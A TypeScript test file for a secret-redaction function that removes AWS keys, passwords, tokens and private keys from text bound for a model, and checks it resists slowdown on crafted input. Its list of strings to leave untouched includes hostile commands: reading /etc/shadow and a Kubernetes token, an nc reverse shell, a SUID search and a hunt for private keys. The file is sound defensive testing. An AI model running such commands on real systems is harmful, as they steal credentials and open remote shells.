import assert from "node:assert/strict";
import { redact } from "../../../actors/analyst/redact.ts";

describe("actors/analyst: secrets on the way to a model", () => {
  const secrets: readonly (readonly [string, string, string])[] = [
    ["an AWS key id", "aws --key AKIAIOSFODNN7EXAMPLE s3 ls", "AKIAIOSFODNN7EXAMPLE"],
    [
      "an AWS secret",
      "x wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY y",
      "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ],
    ["a password option", "mysql --password=hunter2", "hunter2"],
    ["a password option with a space", "psql --password hunter2", "hunter2"],
    ["a quoted password", `curl -d 'password="hun ter2"'`, "hun ter2"],
    ["a short password option", "mysql -uroot -phunter2 db", "hunter2"],
    ["an environment assignment", "env DB_PASSWORD=hunter2 node", "hunter2"],
    ["a JSON credential", '{"api_key": "hunter2"}', "hunter2"],
    ["credentials in a URL", "git clone https://me:hunter2@example.org/x", "hunter2"],
    ["a bearer token", "curl -H 'Authorization: Bearer abcdef.123456'", "abcdef.123456"],
    ["curl's user option", "curl -u admin:hunter2 http://x", "hunter2"],
    ["a GitHub token", "ghp_0123456789abcdefghijABCDEFGHIJ012345", "0123456789abcdef"],
    ["a web token", "x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc-123", "eyJzdWIi"],
    [
      "a private key",
      "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY----- rest",
      "MIIEow",
    ],
    ["a private key cut short", "-----BEGIN PRIVATE KEY-----\nMIIEow", "MIIEow"],
  ];
  for (const [what, text, secret] of secrets) {
    it(`takes out ${what}`, () => {
      const clean = redact(text);
      assert.ok(!clean.includes(secret), clean);
      assert.match(clean, /\[redacted\]/);
    });
  }

  const kept = [
    "cat /etc/shadow",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "nc -e /bin/sh 203.0.113.9 4444",
    "sha1sum da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "find / -perm -4000 -type f",
    "grep -r BEGIN /home",
  ];
  for (const text of kept) {
    it(`leaves ${text}`, () => assert.equal(redact(text), text));
  }

  it("is not slowed down by text made for it", () => {
    const traps = [
      "-----BEGIN PRIVATE KEY-----",
      "password=",
      "a://",
      "AKIA",
      "A1/",
      "mysql -",
      "eyJ.",
    ];
    for (const trap of traps) assert.equal(typeof redact(trap.repeat(3_000)), "string");
  });
});
